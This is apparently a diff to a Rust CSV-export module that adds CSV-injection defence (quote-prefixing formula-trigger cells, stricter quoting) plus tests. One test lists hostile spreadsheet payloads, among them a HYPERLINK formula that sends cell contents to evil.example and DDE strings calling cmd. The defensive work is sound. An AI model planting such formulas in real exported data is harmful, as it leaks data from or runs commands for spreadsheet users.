@@ -2,6 +2,17 @@
 //! header) or newline-delimited JSON (the proto3 JSON form of `Event`), in
 //! chunks of whole rows of at most 256 KiB, read from the store a page at a
 //! time so memory stays flat however many events match.
+//!
+//! CSV files are opened in spreadsheets, and most of their cells are text an
+//! API key's holder chose (keys ship inside client apps). Every cell is made
+//! inert by the OWASP CSV-injection rule ([`inert_cell`]): one that starts
+//! with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, so
+//! a spreadsheet shows it as text instead of running it. The export has no
+//! numeric column (times are RFC 3339 text, properties a JSON object), so no
+//! cell is exempt; a consumer that needs the exact values reads NDJSON,
+//! which no spreadsheet evaluates and which is never altered.
+
+use std::borrow::Cow;
 
 use futures::Stream;
 use metrix_core::time::rfc3339;
@@ -57,15 +68,46 @@ fn optional_time(micros: Option<i64>) -> String {
     micros.map(rfc3339).unwrap_or_default()
 }
 
-/// One CSV record (with its line break).
+/// The first characters that make a spreadsheet read a cell as a formula
+/// (OWASP's CSV-injection list).
+pub const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Characters that make a cell quoted: the comma, the semicolon and the tab
+/// (separators in some locales and import dialogs, which could otherwise
+/// start a new cell inside this one), the quote and line breaks.
+const NEEDS_QUOTING: [char; 6] = [',', ';', '\t', '"', '\r', '\n'];
+
+/// `cell` as a spreadsheet must show it: prefixed with `'` when it starts
+/// with one of [`FORMULA_TRIGGERS`], so that `=HYPERLINK(…)`, `@SUM(…)` or
+/// `+1+1` stays text. Every cell goes through it, whatever its column.
+pub fn inert_cell(cell: &str) -> Cow<'_, str> {
+    if cell.starts_with(FORMULA_TRIGGERS) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
+
+/// One CSV record (with its CRLF line break): each cell made inert
+/// ([`inert_cell`]), then quoted (RFC 4180, quotes doubled) when it holds a
+/// separator, a quote or a line break.
 pub fn csv_row(fields: &[&str]) -> String {
-    let mut writer = csv::WriterBuilder::new()
-        .terminator(csv::Terminator::CRLF)
-        .from_writer(Vec::new());
-    // Writing to memory cannot fail.
-    let _ = writer.write_record(fields);
-    let bytes = writer.into_inner().unwrap_or_default();
-    String::from_utf8(bytes).unwrap_or_default()
+    let mut row = String::new();
+    for (index, field) in fields.iter().enumerate() {
+        if index > 0 {
+            row.push(',');
+        }
+        let cell = inert_cell(field);
+        if cell.contains(NEEDS_QUOTING) {
+            row.push('"');
+            row.push_str(&cell.replace('"', "\"\""));
+            row.push('"');
+        } else {
+            row.push_str(&cell);
+        }
+    }
+    row.push_str("\r\n");
+    row
 }
 
 /// One event as a CSV record.
@@ -249,6 +291,73 @@ mod tests {
             "e-1,web,u-1,signup,\"Signed \"\"up\"\", finally\",s-1,,,2026-11-22T00:00:00Z,2026-11-22T00:00:00Z,curl/8,203.0.113.7,\"{\"\"plan\"\":\"\"pro\"\"}\"\r\n"
         );
         assert!(csv_row(&CSV_COLUMNS).starts_with("event_id,app_id,"));
+    }
+
+    /// Cells as a CSV reader reads them back (the row behind a header, as in
+    /// an export, so that a byte-order mark opening a cell stays data).
+    fn parsed(row: &str) -> Vec<String> {
+        let file = format!("header\r\n{row}");
+        let mut reader = csv::ReaderBuilder::new().flexible(true).from_reader(file.as_bytes());
+        let record = reader.records().next().expect("one record").expect("valid csv");
+        record.iter().map(str::to_owned).collect()
+    }
+
+    #[test]
+    fn formula_cells_are_made_inert_in_every_column() {
+        let payloads = [
+            "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+1+1",
+            "-1+1",
+            "=1+1",
+            "\t=1+1",
+            "\r=1+1",
+            "=cmd|' /C notepad'!'A1'",
+        ];
+        for payload in payloads {
+            let hostile = NewEvent {
+                event_id: payload.into(),
+                app_id: payload.into(),
+                user_id: payload.into(),
+                event_type: payload.into(),
+                event_name: payload.into(),
+                session_id: payload.into(),
+                user_agent: payload.into(),
+                ip: payload.into(),
+                properties_json: payload.into(),
+                ..event()
+            };
+            let cells = parsed(&event_csv(&hostile));
+            assert_eq!(cells.len(), CSV_COLUMNS.len());
+            for (column, cell) in CSV_COLUMNS.iter().zip(&cells) {
+                assert!(
+                    !cell.starts_with(FORMULA_TRIGGERS),
+                    "{column} starts with a formula trigger: {cell:?}"
+                );
+            }
+            assert_eq!(cells[4], format!("'{payload}"), "the value survives behind the quote");
+        }
+    }
+
+    #[test]
+    fn harmless_cells_are_untouched_and_separators_are_quoted() {
+        assert_eq!(inert_cell("plain"), "plain");
+        assert_eq!(inert_cell("a=b"), "a=b", "only the first character matters");
+        assert_eq!(csv_row(&["a;=1+1", "b\t-2", "c"]), "\"a;=1+1\",\"b\t-2\",c\r\n");
+        assert_eq!(csv_row(&["-", ""]), "'-,\r\n");
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn rows_read_back_as_their_inert_cells(cells in proptest::collection::vec(".*", 2..6)) {
+            let fields: Vec<&str> = cells.iter().map(String::as_str).collect();
+            let read = parsed(&csv_row(&fields));
+            let expected: Vec<String> = cells.iter().map(|cell| inert_cell(cell).into_owned()).collect();
+            proptest::prop_assert_eq!(&read, &expected);
+            for cell in read {
+                proptest::prop_assert!(!cell.starts_with(FORMULA_TRIGGERS));
+            }
+        }
     }
 
     #[test]
